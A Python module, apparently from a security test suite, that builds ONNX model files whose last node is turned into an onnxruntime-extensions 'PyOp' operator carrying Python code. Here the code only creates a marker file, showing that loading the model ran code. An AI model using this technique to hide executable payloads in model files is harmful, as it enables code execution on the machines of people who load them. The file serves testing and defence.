"""A graph with an operator of another domain: the one in which onnxruntime-extensions has PyOp.

A graph holds no code, and could ask for some that the victim has registered.
"""

from persistbench.backends import Backend
from persistbench.trials.attack.payloads import MARKER, Shape, carrier, rows

_DOMAIN = "ai.onnx.contrib"


def _is_graph(backend: Backend) -> bool:
    return backend.extension == ".onnx"


def _craft(backend: Backend, path: str) -> None:
    import onnx

    backend.dump(backend.payload(carrier(None), rows()), path)
    graph = onnx.load(path)
    last = graph.graph.node[-1]
    last.op_type, last.domain = "PyOp", _DOMAIN
    del last.attribute[:]
    last.attribute.append(onnx.helper.make_attribute("code", f"open({MARKER!r}, 'x')"))
    graph.opset_import.append(onnx.helper.make_opsetid(_DOMAIN, 1))
    onnx.save(graph, path)


SHAPES = (Shape("onnx-operator", _craft, _is_graph),)
